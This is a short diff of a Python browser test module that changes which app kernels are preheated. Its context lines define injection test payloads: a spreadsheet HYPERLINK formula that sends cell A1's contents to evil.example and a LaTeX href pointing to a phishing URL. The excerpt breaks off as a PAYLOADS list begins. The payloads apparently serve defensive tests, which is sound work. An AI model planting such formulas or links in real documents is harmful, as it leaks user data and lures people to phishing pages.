@@ -30,9 +30,11 @@ from collective_impact.store import Store
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
 TERRITORY = "QPV-NORD"
-#: The apps these tests open (tests/apps/conftest.py names them the same way): only their
-#: kernels are preheated, at once (staged preheating waits for a home page never opened here)
-OPENED_APPS = ("evaluation", "tableau_de_bord", "questionnaire", "saisie")
+#: No kernel preheated (tests/apps/conftest.py names the same list): the tests open the guided
+#: evaluation, the dashboard, the questionnaire and the data-entry app once each, each page with
+#: a kernel started for it, as when the server's pool is empty (preheating them would start a
+#: second kernel per app, for a page never opened)
+OPENED_APPS = ()
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
 HREF = "$\\href{https://evil.example/phish}{x}$"
 PAYLOADS = [
